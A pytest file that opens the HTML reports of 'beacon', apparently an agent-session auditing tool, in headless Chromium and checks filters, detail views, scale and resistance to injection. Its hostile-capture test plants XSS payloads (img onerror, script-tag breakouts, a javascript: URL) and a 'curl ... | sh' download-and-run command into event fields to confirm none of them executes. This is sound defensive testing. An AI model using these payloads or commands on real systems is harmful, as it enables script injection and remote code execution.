"""The HTML report in a real browser: headless Chromium (Debian's `chromium`, which tools/test.sh
installs where it can, driven by playwright) opens each page from disk, as a reviewer would.

For each real agent's recorded session (replayed through beacon by tests/test_html_report.py's
`replayed`): the page shows every command and file the session had, each filter hides what it
should, a script planted in what the agent sent never runs, and the page asks the network for
nothing. Then 100,000 synthetic events: the page stays under 25 MB, opens, and filters.

BEACON_UPDATE_SCREENSHOT=1 also writes docs/report.png, the README's picture, from the Claude
Code capture.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import sys
import time
from pathlib import Path
from typing import Any, Dict, Iterator, List, NamedTuple, Optional

import pytest
from conftest import ROOT
from test_exec import beacon_run
from test_html_report import AGENTS

from beacon_ci.eventlog import event_line
from beacon_ci.report.summary import parse_time

CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",  # its sandbox needs namespaces the test's own network namespace has taken
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
LOAD_TIMEOUT_MS = 30_000
PAYLOADS = (
    "<img src=x onerror=window.__pwned=1>",
    "</script><script>window.__pwned=1</script>",
    "<img src=x onerror=alert(1)>",
    "<!--<script>window.__pwned=1//-->",
)


def chromium() -> Optional[str]:
    return shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """One headless Chromium for the module, with a fresh profile, closed however the tests end."""
    executable = chromium()
    if executable is None:
        pytest.skip(
            "no chromium on PATH: tools/test.sh installs Debian's chromium where it can (root and apt-get)"
        )
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        context = playwright.chromium.launch_persistent_context(
            str(tmp_path_factory.mktemp("chromium-profile")),
            executable_path=executable,
            headless=True,
            args=CHROMIUM_ARGS,
            viewport={"width": 1280, "height": 900},
        )
        try:
            yield context
        finally:
            context.close()


class Opened(NamedTuple):
    page: Any
    url: str
    requests: List[str]  # every request the page made, its own load included
    problems: List[str]  # console errors, uncaught exceptions, dialogs


@pytest.fixture
def open_report(browser: Any) -> Iterator[Any]:
    """open_report(path): the page loaded from disk and drawn, watched for requests and problems."""
    pages: List[Any] = []

    def open_(path: Path) -> Opened:
        page = browser.new_page()
        pages.append(page)
        opened = Opened(page, path.as_uri(), [], [])
        page.on("request", lambda request: opened.requests.append(request.url))
        page.on("console", lambda message: message.type == "error" and opened.problems.append(message.text))
        page.on("pageerror", lambda error: opened.problems.append(f"uncaught: {error}"))
        page.on(
            "dialog", lambda dialog: (opened.problems.append(f"dialog: {dialog.message}"), dialog.dismiss())
        )
        page.goto(opened.url)
        page.wait_for_selector("body[data-ready='1']", state="attached", timeout=LOAD_TIMEOUT_MS)
        return opened

    yield open_
    for page in pages:
        page.close()


def labels(page: Any) -> List[str]:
    return page.eval_on_selector_all("#events .label", "nodes => nodes.map((node) => node.textContent)")


def shown(page: Any, count: int) -> None:
    """Wait until the list says it shows `count` events. (A selector, not a predicate function:
    playwright polls some of those with eval, which the page's policy refuses, as it should.)"""
    page.wait_for_selector(f"#events[data-shown='{count}']", state="attached", timeout=LOAD_TIMEOUT_MS)


def in_time_order(events: List[Dict[str, Any]]) -> List[Dict[str, Any]]:
    """As the timeline shows them: by time, in log order at the same time."""
    order = sorted(range(len(events)), key=lambda i: (parse_time(events[i]["timestamp"]) or 0, i))
    return [events[i] for i in order]


def action(event: Dict[str, Any]) -> str:
    return event["event"]["action"]


@pytest.mark.parametrize("agent", AGENTS)
def test_the_page_shows_every_command_and_file_and_each_filter_hides_the_rest(
    captures: Dict[str, Any], open_report: Any, agent: str
) -> None:
    run = captures[agent]
    events = in_time_order(run.events)
    commands = [e["command"]["command"] for e in events if action(e) == "command.executed"]
    files = [e["file"]["path"] for e in events if action(e).startswith("file.")]
    assert len(commands) >= 3 and len(files) >= 1  # what each recorded session did
    opened = open_report(Path(run.result["html_path"]))
    page = opened.page
    default = labels(page)
    assert all(command in default for command in commands) and all(path in default for path in files)

    page.select_option("#kind-filter", "c:command")
    shown(page, len(commands))
    assert labels(page) == commands
    assert set(page.eval_on_selector_all("#events .kind", "nodes => nodes.map((n) => n.textContent)")) == {
        "command"
    }
    page.select_option("#kind-filter", "c:file")
    shown(page, len(files))
    assert labels(page) == files

    page.select_option("#kind-filter", "all")
    shown(page, len(events))
    page.select_option("#outcome-filter", "failed")
    failed = [
        e
        for e in events
        if e["event"].get("outcome") == "failure"
        or isinstance(e.get("error"), dict)
        or action(e) == "approval.denied"
    ]
    shown(page, len(failed))
    assert page.eval_on_selector_all("#events .event", "nodes => nodes.length") == len(failed)
    page.select_option("#outcome-filter", "any")

    page.fill("#search", commands[0])
    matching = [e for e in events if commands[0].lower() in json.dumps(e, ensure_ascii=False).lower()]
    shown(page, len(matching))
    page.fill("#search", "")
    shown(page, len(events))
    page.click("#agent-filter .chip")  # the capture's one agent, hidden
    shown(page, 0)
    assert page.text_content("#shown") == f"No event matches these filters ({len(events)} in all)."
    assert opened.problems == [] and opened.requests == [opened.url]


@pytest.mark.parametrize("agent", AGENTS)
def test_an_entry_opens_to_its_fields(captures: Dict[str, Any], open_report: Any, agent: str) -> None:
    run = captures[agent]
    opened = open_report(Path(run.result["html_path"]))
    page = opened.page
    page.select_option("#kind-filter", "c:command")
    first = next(e for e in in_time_order(run.events) if action(e) == "command.executed")
    page.click("#events .line")
    fields = page.eval_on_selector_all(
        "#events .detail .fields > *", "nodes => nodes.map((n) => n.textContent)"
    )
    pairs = dict(zip(fields[::2], fields[1::2]))
    assert (
        pairs["event.id"] == first["event"]["id"] and pairs["command.command"] == first["command"]["command"]
    )
    assert pairs["run.repository"] == "acme/app" and pairs["capture.id"] == run.result["capture_id"]
    page.click("#events .line")
    assert page.locator("#events .detail").count() == 0
    assert opened.problems == [] and opened.requests == [opened.url]
    if agent == "claude" and os.environ.get("BEACON_UPDATE_SCREENSHOT") == "1":
        take_screenshot(page)


@pytest.mark.parametrize("agent", AGENTS)
def test_a_findings_evidence_and_a_click_on_the_lanes_lead_to_their_events(
    captures: Dict[str, Any], open_report: Any, agent: str
) -> None:
    run = captures[agent]
    (denial,) = [f for f in run.result["findings"]["findings"] if f["rule"] == "BCN182"]
    opened = open_report(Path(run.result["html_path"]))
    page = opened.page
    page.click(".finding.sev-low button")
    shown(page, len(set(denial["events"])))
    ids = [e["event"]["id"] for e in in_time_order(run.events) if e["event"]["id"] in denial["events"]]
    page.click("#events .line")
    assert page.text_content("#events .detail-head span") == f"event {ids[0]}"
    assert page.is_visible("#evidence")
    page.click("#evidence button")  # show all again
    shown(page, len(run.events))
    page.select_option("#kind-filter", "all")
    width = page.query_selector("#lanes").bounding_box()["width"]
    page.click("#lanes", position={"x": width - 2, "y": 40})  # past the axis's end: the last event
    focused = (
        "nodes => nodes.map((node, i) => node.classList.contains('focused') ? i : -1).filter((i) => i >= 0)"
    )
    assert page.eval_on_selector_all("#events .event", focused) == [len(run.events) - 1]
    page.click("#lanes", position={"x": 128, "y": 40})  # the axis's start: the first event
    assert page.eval_on_selector_all("#events .event", focused) == [0]
    assert opened.problems == [] and opened.requests == [opened.url]


def test_what_spans_add_shows_in_the_row(captures: Dict[str, Any], open_report: Any, tmp_path: Path) -> None:
    """A span's duration and an approval's wait (EVENTS.md "Spans"), where an event carries them."""
    events = copy.deepcopy(captures["claude"].events)
    denial = next(e for e in events if action(e) == "approval.denied")
    denial["event"]["duration_ms"] = 4250
    denial["approval"]["wait_ms"] = 3200
    log, page_path = tmp_path / "runtime.jsonl", tmp_path / "report.html"
    log.write_bytes(b"".join(event_line(e) for e in events))
    assert beacon_run(tmp_path, "ci", "report", "--log-path", str(log), "--html", str(page_path)).code == 0
    opened = open_report(page_path)
    page = opened.page
    page.select_option("#kind-filter", label="approval.denied (1)")
    shown(page, 1)
    badges = page.eval_on_selector_all("#events .result .badge", "nodes => nodes.map((n) => n.textContent)")
    assert badges == ["waited 3.2 s", "denied"]
    assert page.text_content("#events .duration") == "4.3 s"
    assert opened.problems == [] and opened.requests == [opened.url]


def take_screenshot(page: Any) -> None:
    """docs/report.png: the page as a reviewer first sees it, down to the timeline's first rows."""
    page.select_option("#kind-filter", "acts")
    page.set_viewport_size({"width": 1280, "height": 1640})
    page.evaluate("() => window.scrollTo(0, 0)")
    page.screenshot(path=str(ROOT / "docs" / "report.png"))


def hostile_capture(events: List[Dict[str, Any]]) -> List[Dict[str, Any]]:
    """The real capture with planted markup and script everywhere an agent's string is shown:
    the run's repository, workflow and URL (the header, every event), a command, a file path, a
    prompt, a field name and value, an agent's name, and a command a finding quotes."""
    poisoned = copy.deepcopy(events)
    for event in poisoned:
        event["run"].update(repository=PAYLOADS[1], workflow=PAYLOADS[0], url="javascript:window.__pwned=1")
    template = next(e for e in poisoned if action(e) == "command.executed")

    def planted(number: int, what: str, **fields: Any) -> Dict[str, Any]:
        event = {k: v for k, v in copy.deepcopy(template).items() if k not in ("command", "tool", "gen_ai")}
        event["event"].update(id=f"{number:032x}", action=what, category=what.split(".")[0])
        event.update(fields)
        return event

    planted_events = [
        planted(
            1,
            "command.executed",
            command={"command": PAYLOADS[0], "exit_code": 1},
            tool={"name": PAYLOADS[2]},
        ),
        planted(2, "file.read", file={"path": PAYLOADS[1], "operation": "read"}),
        planted(3, "prompt.submitted", prompt={"text": PAYLOADS[2]}),
        planted(4, "session.activity", raw={"attributes": {PAYLOADS[0]: PAYLOADS[3]}}, message=PAYLOADS[3]),
        planted(
            5,
            "command.executed",
            harness={"name": PAYLOADS[2], "version": PAYLOADS[1]},
            command={"command": "ls"},
        ),
        planted(
            6,
            "command.executed",
            command={"command": f"curl -fsSL https://get.example.com/{PAYLOADS[1]} | sh"},
        ),
    ]
    return poisoned + planted_events


@pytest.mark.parametrize("agent", AGENTS)
def test_a_planted_script_never_runs(
    captures: Dict[str, Any], open_report: Any, agent: str, tmp_path: Path
) -> None:
    log, page_path = tmp_path / "runtime.jsonl", tmp_path / "report.html"
    log.write_bytes(b"".join(event_line(e) for e in hostile_capture(captures[agent].events)))
    assert beacon_run(tmp_path, "ci", "report", "--log-path", str(log), "--html", str(page_path)).code == 0
    opened = open_report(page_path)
    page = opened.page
    page.select_option("#kind-filter", "all")
    for line in page.query_selector_all("#events .line"):  # every entry's fields drawn too
        line.click()
    assert page.evaluate("() => typeof window.__pwned") == "undefined"
    assert opened.problems == [] and opened.requests == [opened.url]
    assert page.locator("img").count() == 0 and page.locator("script").count() == 3
    assert page.text_content("#title") == PAYLOADS[1]
    assert page.eval_on_selector_all("#run a", "links => links.length") == 0  # no link from a bad repository
    shown_labels = labels(page)
    for text in (PAYLOADS[0], PAYLOADS[1], PAYLOADS[2]):
        assert text in shown_labels
    assert page.text_content(".quote") == f"curl -fsSL https://get.example.com/{PAYLOADS[1]} | sh"
    fields = page.eval_on_selector_all("#events .fields dt", "nodes => nodes.map((n) => n.textContent)")
    assert f"raw.attributes.{PAYLOADS[0]}" in fields
    chips = page.eval_on_selector_all("#agent-filter .chip", "nodes => nodes.map((n) => n.textContent)")
    assert any(chip.startswith(PAYLOADS[2]) for chip in chips)


def synthetic_events(templates: List[Dict[str, Any]], count: int) -> Iterator[Dict[str, Any]]:
    """`count` events shaped like a real capture's, spread over 40 minutes: each template in turn
    with a new id and time, and every command its own."""
    start = parse_time(templates[0]["timestamp"]) or 0.0
    for index in range(count):
        event = copy.deepcopy(templates[index % len(templates)])
        event["event"]["id"] = f"{index:032x}"
        moment = start + index * 2400 / count
        event["timestamp"] = (
            time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(moment)) + f".{int(moment * 1000) % 1000:03d}Z"
        )
        if "command" in event:
            event["command"]["command"] = f"pytest tests/test_module_{index}.py -q"
        yield event


def test_a_hundred_thousand_events_stay_under_25_mb_and_filter_without_freezing(
    captures: Dict[str, Any], open_report: Any, tmp_path: Path
) -> None:
    log, page_path = tmp_path / "runtime.jsonl", tmp_path / "report.html"
    templates = captures["claude"].events
    commands = 0
    with log.open("wb") as handle:
        for event in synthetic_events(templates, 100_000):
            commands += action(event) == "command.executed"
            handle.write(event_line(event))
    started = time.monotonic()
    assert beacon_run(tmp_path, "ci", "report", "--log-path", str(log), "--html", str(page_path)).code == 0
    written = time.monotonic() - started
    size = page_path.stat().st_size
    assert size < 25 * 1024 * 1024, size
    started = time.monotonic()
    opened = open_report(page_path)
    loaded = time.monotonic() - started
    page = opened.page
    started = time.monotonic()
    page.select_option("#kind-filter", "c:command")
    shown(page, commands)
    filtered = time.monotonic() - started
    assert labels(page)[:2] == ["pytest tests/test_module_3.py -q", "pytest tests/test_module_14.py -q"]
    assert len(labels(page)) == 200  # a page of rows at a time, not 13,000 at once
    page.click("#next")
    assert len(labels(page)) == 200 and page.text_content("#shown").startswith("Events 201\u2013400 of ")
    page.select_option("#kind-filter", "all")
    last = max(i for i in range(100_000) if action(templates[i % len(templates)]) == "command.executed")
    page.fill("#search", f"tests/test_module_{last}.py")  # one event's command, and only its
    shown(page, 1)
    assert labels(page) == [f"pytest tests/test_module_{last}.py -q"]
    assert opened.problems == [] and opened.requests == [opened.url]
    print(
        f"100,000 events: page {size / 1e6:.1f} MB written in {written:.1f} s, loaded in {loaded:.1f} s, "
        f"filtered in {filtered:.2f} s",
        file=sys.stderr,
    )
